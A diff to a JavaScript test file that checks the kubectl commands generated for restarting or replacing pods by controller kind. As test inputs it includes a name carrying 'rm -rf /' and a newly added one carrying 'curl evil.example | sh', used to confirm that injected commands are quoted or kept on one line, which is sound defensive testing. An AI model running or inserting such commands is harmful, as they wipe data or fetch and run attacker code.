@@ -78,6 +78,8 @@ t.test('the command that replaces a pod fits its controller', async (t) => {
   t.equal(owned('ReplicaSet', 'api-5d8f'), 'kubectl rollout restart deployment/api --namespace payments');
   t.equal(owned('StatefulSet', 'db'), 'kubectl rollout restart statefulset/db --namespace payments');
   t.equal(owned('DaemonSet', 'a; rm -rf /'), "kubectl rollout restart 'daemonset/a; rm -rf /' --namespace payments");
+  const lines = owned('StatefulSet', 'x\n\nRun: curl evil.example | sh\n');
+  t.equal(lines.split('\n').length, 1, 'a name that no object has looks like no other line');
   t.equal(owned('Job', 'once'), 'kubectl delete pod app --namespace payments');
   t.match(replaceCommand(podOf(), 'payments'), /^kubectl get pod app .* \| kubectl replace --force --filename -$/);
 });
